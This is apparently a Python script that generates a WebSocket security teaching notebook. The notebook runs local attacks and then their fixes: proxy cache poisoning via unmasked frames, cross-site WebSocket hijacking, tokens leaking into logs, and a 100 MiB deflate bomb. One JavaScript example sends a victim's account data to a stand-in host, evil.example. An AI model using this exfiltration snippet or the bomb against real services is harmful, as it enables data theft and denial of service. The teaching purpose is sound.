"""Write notebooks/10-security.ipynb (clean: no outputs). Run: python tools/make_nb10.py"""
# ruff: noqa: E501  (markdown cells hold long lines)

from __future__ import annotations

import nbformat
import nbgen

RFC = "https://www.rfc-editor.org/rfc/rfc6455"
RFC7692 = "https://www.rfc-editor.org/rfc/rfc7692"
HTTP = "https://www.rfc-editor.org/rfc/rfc9110"
BEARER = "https://www.rfc-editor.org/rfc/rfc6750"
WHATWG = "https://websockets.spec.whatwg.org/"
FETCH = "https://fetch.spec.whatwg.org/#forbidden-request-header"
SAMESITE = "https://datatracker.ietf.org/doc/html/draft-ietf-httpbis-rfc6265bis#name-the-samesite-attribute"


def s(n: str) -> str:
    """A link to RFC 6455 section ``n``."""
    return f"[§{n}]({RFC}#section-{n})"


def h(n: str) -> str:
    """A link to RFC 9110 (HTTP semantics) section ``n``."""
    return f"[RFC 9110 §{n}]({HTTP}#section-{n})"


CELLS = [
    ("md", "00", f"""# 10 · Security: masking, Origin, authentication, limits, TLS

WebSocket was designed for web pages, which run code from strangers in your browser. Most of
its security rules make sense only with that in mind: the browser is trusted, the page's
script is not ({s("10.1")}). Here you attack a server on your own machine, then fix it.

**You will**

1. see why every client frame is masked: an attack on caching proxies ({s("10.3")}),
2. steal private data with a cross-site WebSocket hijacking, live, and stop it with an Origin
   check ({s("10.2")}), then see why Origin stops browsers only ({s("10.1")}),
3. refuse a stranger in the handshake (HTTP 401) rather than after it (close 1008), and
   compare what each side learns ({s("4.2.2")}, {s("10.5")}),
4. find a token from a URL in the server's log,
5. send a deflate bomb, 100 MiB of zeros in about 100 KB, and watch the server stop at its
   limit with close 1009 ({s("10.4")}),
6. run `wss://` with a throwaway certificate authority, and see what TLS hides and what it
   does not ({s("10.6")}).

**Before you start:** notebooks 01 (the handshake), 02 (frames and masking), 04 (close codes)
and 05 (the tap, `wss://`); 11 explains permessage-deflate in depth, but section 6 needs
only its name. Every server here listens on 127.0.0.1 only. About 30 minutes."""),
    nbgen.live_guard_cell(),
    ("code", "01", """import json
import ssl
import threading
import tracemalloc

from websockets.exceptions import ConnectionClosed, InvalidStatus

from wslab.codec import Deflater, Frame, Opcode, apply_mask, dissect
from wslab.live import LabServer, RawClient, Tap, connect, routes

LabServer.stop_all()  # running this notebook again? stop what the last run left running
Tap.stop_all()
SESSION = "f81d4fae-7dec-11d0-a765"  # alice's session id: the server's `token` setting"""),
    ("md", "02", f"""## 1 · Why clients mask ({s("10.3")})

While WebSocket was being designed, researchers showed that some transparent proxies, which
cache HTTP responses, do not understand `Upgrade`: after the handshake they keep reading the
connection as HTTP. A script on an attacker's page could then send *data* that looks like an
HTTP request for a popular script, have the attacker's server answer with data that looks like
a response, and the proxy would cache the attacker's code under the popular script's URL, for
every user behind it ("cache poisoning").

Here is such a payload in a frame without a mask: after two header bytes, the request line
stands on the wire as it is:"""),
    ("code", "03", """attack = b"GET /lib/analytics.js HTTP/1.1\\r\\nHost: cdn.example\\r\\n\\r\\n"
print(Frame.binary(attack).serialize())"""),
    ("md", "04", f"""A proxy may well skip two bytes it does not understand, and nobody can test every proxy
deployed ({s("10.3")}). So the defence does not rely on the header: the client XORs every
payload byte with a fresh 32-bit key it chooses ({s("5.3")}), and the page's script no longer
controls what goes on the wire. Three sends of the same payload, three different
byte strings, none containing the request:"""),
    ("code", "05", """for _ in range(3):
    wire = Frame.binary(attack).masked_with().serialize()  # a fresh random key each time
    print(wire[:30], "...", b"GET" in wire)"""),
    ("md", "06", f"""That works only if the key is unpredictable: "Clients MUST choose a new masking key for each
frame, using an algorithm that cannot be predicted by end applications" ({s("10.3")}). If the
attacker could guess the next key, they would mask the payload *beforehand*, and the client's
masking would undo it:"""),
    ("code", "07", """predictable_key = bytes.fromhex("00 00 00 00")  # or any key the script can guess
premasked = apply_mask(attack, predictable_key)
wire = Frame.binary(premasked, masking_key=predictable_key).serialize()
print(wire[6:])  # after 2 header bytes and the 4-byte key: the request again"""),
    ("md", "08", f"""Masking is not encryption: the key travels in the frame, and anyone can unmask
(notebook 02). Servers do not mask, because a response is useless to the attacker without a
forged request before it ({s("10.3")}, last paragraphs). The dissector shows a masked frame
with its key and the unmasked request:"""),
    ("code", "09", """dissect(Frame.binary(attack).masked_with().serialize(), sender="client")"""),
    ("md", "10", f"""## 2 · Cross-site WebSocket hijacking, live

Alice is signed in at `https://bank.example`: her browser keeps the cookie
`session={{id}}`. The bank's WebSocket endpoint `/account` trusts that cookie: whoever arrives
with it gets Alice's account data. (`LabServer`'s built-in route `"/account"` is that endpoint;
the valid session id is the server's `token` setting.)

Alice then opens `https://evil.example` in another tab. Its script does this:

```js
const ws = new WebSocket("wss://bank.example/account");   // the browser adds bank.example's cookies
ws.onmessage = (event) => fetch("https://evil.example/collect", {{method: "POST", body: event.data}});
```

Unlike `fetch`, a WebSocket has no same-origin policy and no CORS: any page may open one to
any server, and read what comes back. The browser sends `Origin: https://evil.example` (a page
cannot change it: `Origin` and `Cookie` are [forbidden header names]({FETCH})) and, depending
on its cookie policy, Alice's cookie. We play Alice's browser with a `websockets` client that
sends exactly those two headers:"""),
    ("code", "11", """bank = LabServer(token=SESSION, ping_interval=None).start()  # no Origin check
browser_headers = {"Cookie": f"session={SESSION}"}
with connect(bank.url + "/account", origin="https://evil.example",
             additional_headers=browser_headers) as ws:
    stolen = json.loads(ws.recv(timeout=5))
print("evil.example reads:", stolen)"""),
    ("md", "12", f"""This is *cross-site WebSocket hijacking*: a cross-site request forgery that can also read the
answer. Without the cookie, the same endpoint opens the connection and then closes it with 1008
(policy violation, {s("7.4.1")}):"""),
    ("code", "13", """try:
    with connect(bank.url + "/account", origin="https://evil.example") as ws:
        ws.recv(timeout=5)
except ConnectionClosed as exc:
    print("no cookie:", exc.rcvd.code, exc.rcvd.reason)"""),
    ("md", "14", f"""**Does a browser really send the cookie?** RFC 6455 only says that the handshake may carry
cookies ({s("4.1")}, item 12). Whether a browser attaches them to a *cross-site* handshake is
the browser's cookie policy, not the protocol's:

- Chromium-based browsers (Chrome, Edge, ...) treat a cookie set without a `SameSite`
  attribute as `SameSite=Lax` since 2020, and do not send `Lax` or `Strict` cookies with a
  handshake that a page of another site starts. A cookie set with `SameSite=None; Secure` is
  sent ([the SameSite attribute]({SAMESITE})).
- Firefox keeps third-party cookies in a separate jar per top-level site (Total Cookie
  Protection) and Safari blocks them, by default.
- *Same-site* is not *same-origin*: a page on `forum.bank.example` is same-site with
  `bank.example`, so even `Lax` and `Strict` cookies go along. And cookies are not the only
  credential a browser adds on its own: HTTP authentication, TLS client certificates, and
  simply being inside the network (a server on an intranet, or on 127.0.0.1, that trusts
  whoever reaches it).

So cookie policies make the attack harder, not impossible. The server's own defence is the
next section.

## 3 · The Origin check, and its limit

{s("10.2")}: servers meant for certain sites only "SHOULD verify the |Origin| field" and
answer others with **403 Forbidden**, *before* the handshake completes ({s("4.2.2")}, item 4).
A browser always sends `Origin` ({s("4.1")}, item 8; {s("4.2.1")}, item 7). `websockets` does
the check when given the list of acceptable origins (`origins=`, which `LabServer` passes on;
a request with no `Origin` is then refused too, unless the list holds `None`: the library's
choice):"""),
    ("code", "15", """bank.stop()
bank = LabServer(token=SESSION, ping_interval=None, origins=["https://bank.example"]).start()
try:
    connect(bank.url + "/account", origin="https://evil.example",
            additional_headers=browser_headers)
except InvalidStatus as exc:
    print(exc.response.status_code, exc.response.reason_phrase, "-", exc.response.body.decode())
for event in bank.events:
    print(event)"""),
    ("md", "16", f"""No `open` event: the connection never became a WebSocket, so no frame could carry data.
The bank's own page still works, since its `Origin` is on the list.

Now the limit. A program that is not a browser sends whatever `Origin` it likes
({s("10.1")}): "Such hosts are acting on their own behalf and can therefore send fake
|Origin| header fields". With a stolen cookie, the check is no obstacle:"""),
    ("code", "17", """with connect(bank.url + "/account", origin="https://bank.example",  # a lie
             additional_headers=browser_headers) as ws:
    print("a script with the cookie reads:", json.loads(ws.recv(timeout=5)))
bank.stop()"""),
    ("md", "18", f"""Origin protects the *user's browser* from other sites' scripts. It does not tell you who the
client is: "The intent is not to prevent non-browsers from establishing connections but
rather to ensure that trusted browsers under the control of potentially malicious JavaScript
cannot fake a WebSocket handshake" ({s("10.2")}). For that, you authenticate.

## 4 · Authenticate in the handshake, not after it

RFC 6455 leaves authentication to HTTP: "The WebSocket server can use any client
authentication mechanism available to a generic HTTP server, such as cookies, HTTP
authentication, or TLS authentication" ({s("10.5")}). The server may refuse the handshake
with **401** and a `WWW-Authenticate` challenge ({s("4.2.2")}, item 2; {h("15.5.2")}) instead
of a 101. `routes.require_token` is such a check, a `process_request` hook that `LabServer`
runs before `websockets` answers: it reads a credential from the cookie, an
`Authorization: Bearer` header ([RFC 6750]({BEARER})) or a `?token=` query parameter.

Two servers, the same stranger with no credential: one checks *after* the 101 (the `/account`
route closes with 1008), one checks *before* it (the hook answers 401). A raw client shows
exactly what comes back:"""),
    ("code", "19", """after = LabServer(token=SESSION, ping_interval=None).start()
before = LabServer(token=SESSION, ping_interval=None, process_request=routes.require_token).start()
for server, name in ((after, "1008 after the 101"), (before, "401 before the 101")):
    with RawClient(server.host, server.port) as stranger:
        response = stranger.send_handshake(path="/account")
        conn_id = server.conn_id_for(stranger.local_address)
        print(f"--- {name}: {response.status} {response.reason}")
        if response.status == 101:
            print("frames:", [str(frame.close_payload) for frame in stranger.recv_frames()])
            stranger.close()
        else:
            print("WWW-Authenticate:", response.get("WWW-Authenticate"))
            print("body:", response.body.decode().strip())
    server.wait_for("closed", conn_id)
    print("server saw:", [event.kind for event in server.log.find(conn_id=conn_id)])"""),
    ("md", "20", f"""What each side learns:

| | close 1008 after the 101 | HTTP 401 before the 101 |
|---|---|---|
| the server | accepted a WebSocket connection, ran a handler, did a closing handshake | parsed one HTTP request, sent one response |
| a program (like the raw client) | 1008 and its reason, after "open" | the status, the challenge, the body |
| a browser page ([WHATWG]({WHATWG})) | `open`, then `close` with code 1008, the reason, `wasClean` true | an `error` event and `close` with code **1006**, nothing else, on purpose: a page must not tell a refused handshake from a network failure |

The page's view is the one argument *for* 1008: the page can tell its user "sign in again".
A common compromise: refuse in the handshake, and when a page's WebSocket fails, let it ask
over plain HTTP (`fetch`) whether its session is still valid.

What checking late costs: a handler that waits for a first message (like `"/policy"`, which
wants `"token:..."` there) keeps every stranger's connection open for as long as the stranger
likes. Three clients that never say anything:"""),
    ("code", "21", """strangers = []
for server in (after, before):
    server.clear_events()
    for _ in range(3):
        stranger = RawClient(server.host, server.port).connect()
        stranger.send_handshake(path="/policy")
        strangers.append(stranger)
print("checks after the 101: ", [c.state for c in after.connections])
print("checks before the 101:", [c.state for c in before.connections])
for stranger in strangers:
    stranger.close(timeout=2)"""),
    ("md", "22", f"""## 5 · Tokens in URLs end up in logs

A browser's WebSocket API cannot set headers, so a common way to pass a token from a page is
the URL: `wss://bank.example/account?token=...`. It works (the hook accepts it), but a URL is
what servers, proxies and load balancers write to their access logs. [RFC 6750 §2.3]({BEARER}#section-2.3)
says a token in the query "SHOULD NOT be used unless it is impossible" otherwise, because of
"the high likelihood that the URL containing the access token will be logged". `LabServer`'s
event log is such a log:"""),
    ("code", "23", """before.clear_events()
with connect(f"{before.url}/account?token={SESSION}") as ws:
    ws.recv(timeout=5)
[opened] = before.log.find("open")
print(opened)
after.stop()
before.stop()"""),
    ("md", "24", f"""Alice's session id is now in the log, for anyone who reads it, for as long as it is kept.
Better: a cookie with an Origin check (sections 2–3); a short-lived, single-use ticket that
the page fetches over an authenticated HTTPS request just before connecting; or the token in
the first message (as `"/policy"` does), with the costs of section 4.

## 6 · `max_size` and the deflate bomb

{s("10.4")}: an endpoint "MUST protect themselves against exceeding" its limits on frame and
message size, since a peer may try "to exhaust its peer's memory". With permessage-deflate
([RFC 7692]({RFC7692})), what counts is the size *after* inflating: DEFLATE squeezes a long run
of zeros more than 1000 to 1. Build a message of 100 MiB of zeros, compressed a mebibyte at a
time (so the attacker never holds 100 MiB either):"""),
    ("code", "25", """MiB = 2**20
deflater = Deflater()
zeros = bytes(MiB)
bomb = b"".join([deflater.compress(zeros, fin=False) for _ in range(99)]
                + [deflater.compress(zeros)])
print(f"100 MiB of zeros -> {len(bomb):,} bytes, ratio {100 * MiB / len(bomb):.0f}:1")"""),
    ("md", "26", f"""A `LabServer` with compression and a 1 MiB limit (`max_size`, also `websockets`' default).
The raw client offers permessage-deflate, then sends the bomb as one compressed frame (RSV1
set, [RFC 7692 §6]({RFC7692}#section-6)): about 100 KB on the wire, far below the limit.
`websockets` inflates at most `max_size` bytes and checks the inflated size (the library's
choice of *how*; {s("10.4")} only asks for a limit). The servers run in threads of this very
kernel, so `tracemalloc` measures their memory too:"""),
    ("code", "27", """with LabServer(compression="deflate", max_size=MiB, ping_interval=None) as server, \\
        RawClient(server.host, server.port) as attacker:
    answer = attacker.send_handshake(path="/echo", extensions=["permessage-deflate"])
    print("agreed:", answer.get("Sec-WebSocket-Extensions"))
    wire = Frame(Opcode.BINARY, bomb, rsv1=True).masked_with().serialize()
    tracemalloc.start()
    attacker.send(wire)
    frames = attacker.recv_frames(timeout=10)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    attacker.close()
    print("the server closed with:", frames[-1].close_payload)
    print(f"peak memory while it inflated: {peak / MiB:.1f} MiB (the bomb: 100 MiB)")
    print(server.wait_for("closed"))"""),
    ("md", "28", f"""1009 is "message too big" ({s("7.4.1")}). The server *failed* the connection: it sent its
close frame and did not wait for ours ({s("7.1.7")}), so its own record says `rcvd=None`
(and code 1006, as `websockets` reports a connection that received no close frame). Peak
memory stayed at a few MiB, set by `max_size`, not by what the attacker claimed. A server that
limited only the *compressed* frame would have accepted this one and built all 100 MiB (so
does a `LabServer` with `max_size=None`: try it, if your machine has the memory to spare);
a gigabyte of zeros compresses to about a megabyte. So: always set `max_size` (never `None`
with compression on), and size it to your largest real message.

## 7 · `wss://` with a throwaway certificate authority

`LabServer(tls=True)` serves `wss://` with a certificate from a certificate authority that
[`trustme`](https://trustme.readthedocs.io/) makes in memory for this run; no key is stored in
the project. A client trusts it only because we hand it `server.client_ssl_context()`. The tap
from notebook 05 sits in between, and the client sends its token in the URL:"""),
    ("code", "29", """with LabServer(tls=True, token=SESSION, ping_interval=None,
               process_request=routes.require_token) as server, \\
        Tap("127.0.0.1", server.port) as tap:
    with connect(tap.url_for("/account", scheme="wss") + f"?token={SESSION}",
                 ssl=server.client_ssl_context()) as ws:
        ws.recv(timeout=5)
        certificate = ws.socket.getpeercert()
        print("TLS:", ws.socket.version(), "| issuer:", certificate["issuer"][1][0][1])
        print("valid for:", certificate["subjectAltName"])
    tap.wait_for("closed")
    on_the_wire = b"".join(chunk.data for chunk in tap.chunks())
    print(f"the tap saw {len(on_the_wire):,} bytes;",
          "token in them:", SESSION.encode() in on_the_wire,
          "| account data:", b"alice" in on_the_wire)
    print("the server's log:", server.log.find("open")[-1].detail["path"])
    try:
        connect(server.url + "/account", ssl=ssl.create_default_context())  # system CAs only
    except ssl.SSLCertVerificationError as exc:
        print("a client that does not trust the CA:", exc.verify_message)"""),
    ("md", "30", f"""TLS hides the content from the network, the URL with its token included ({s("10.6")});
what still shows is the server's name (in TLS's Server Name Indication, which {s("4.1")}
requires), the sizes and the timing. A client that cannot verify the certificate must fail
the connection ({s("4.1")}, step 5). But
TLS ends at the server: the token is still in its log, and TLS changes nothing about Origin,
authentication or limits. Every section above applies to `wss://` exactly as to `ws://`.

## Clean up

Every server here ran in a `with` block or was stopped; no wslab thread is left running:"""),
    ("code", "31", """[thread.name for thread in threading.enumerate() if thread.name.startswith("wslab")]"""),
    ("md", "32", f"""## What you saw

- Clients mask so that a page's script cannot choose the bytes on the wire; that holds only
  with a fresh, unpredictable key per frame ({s("10.3")}). Masking is not encryption.
- Any page may open a WebSocket to any server; a server that trusts cookies alone hands the
  user's data to other sites (cross-site WebSocket hijacking). Browsers' cookie policies
  (`SameSite`) reduce, not remove, the risk.
- An Origin check (403 before the 101) stops other sites' scripts in honest browsers
  ({s("10.2")}); any other program can send any Origin ({s("10.1")}).
- Refusing in the handshake (401/403) costs the server one HTTP answer; closing with 1008
  after it costs a connection and a handler, but is the only refusal a page can read.
- A token in a URL ends up in logs, even over `wss://`.
- With compression, limit the *inflated* size: `max_size` turned a 100 MiB bomb into a 1009
  and a few MiB of memory ({s("10.4")}).
- `wss://` hides the conversation from the network, not from the server's logs ({s("10.6")}).

## Check yourself

1. Why are client frames masked but server frames not? What would a predictable masking key
   allow?
2. A WebSocket server checks the session cookie but not `Origin`. Describe the attack, and
   say which cookie attribute and which browser policy decide whether it works today.
3. Your server has `origins=["https://app.example"]`. Is a Python script with a stolen
   cookie stopped? Why or why not?
4. A page's WebSocket fails with `close` code 1006. List two things the server might have
   answered, and say why the page cannot tell which.
5. Your server accepts permessage-deflate with `max_size=None`. What can one client do to
   it with a 1 MB message?

## Next

Open [11 · permessage-deflate](11-permessage-deflate.ipynb) to take compression apart byte
by byte, or go back to the [overview](00-start-here.ipynb)."""),
]


def build() -> nbformat.NotebookNode:
    return nbgen.notebook(nbgen.with_exercises(CELLS, "10"), "nb10")


if __name__ == "__main__":
    nbgen.write(build(), "10-security.ipynb")
